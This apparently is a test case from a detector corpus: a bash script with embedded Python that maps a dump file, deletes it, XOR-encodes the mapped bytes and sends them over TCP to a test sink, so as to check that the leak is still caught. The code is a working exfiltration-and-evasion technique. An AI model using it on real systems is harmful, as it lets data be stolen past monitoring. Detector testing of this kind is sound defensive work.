#!/bin/bash
# B-private-mapping: a private mapping of the dump is altered in place and sent, long after file and descriptor are gone.
# flow: mmap, close, unlink; stores make pages of the process's own, which it sends two seconds later.
# tools: python3
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
sink tcp
python3 - "$D" "$SINK" "$PORT" <<'END' || fail "mapping"
import ctypes, mmap, os, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
dump = os.open(sys.argv[1], os.O_RDONLY)
size = os.fstat(dump).st_size
# Not python's mmap, which keeps a descriptor.
address = libc.mmap(None, size, mmap.PROT_READ | mmap.PROT_WRITE, mmap.MAP_PRIVATE, dump, 0)
assert address != ctypes.c_void_p(-1).value
os.close(dump)
os.unlink(sys.argv[1])
pages = memoryview((ctypes.c_char * size).from_address(address)).cast("B")
pages[:] = bytes(pages).translate(bytes(byte ^ 0x5A for byte in range(256)))
time.sleep(2)
socket.create_connection((sys.argv[2], int(sys.argv[3]))).sendall(pages)
END
sunk
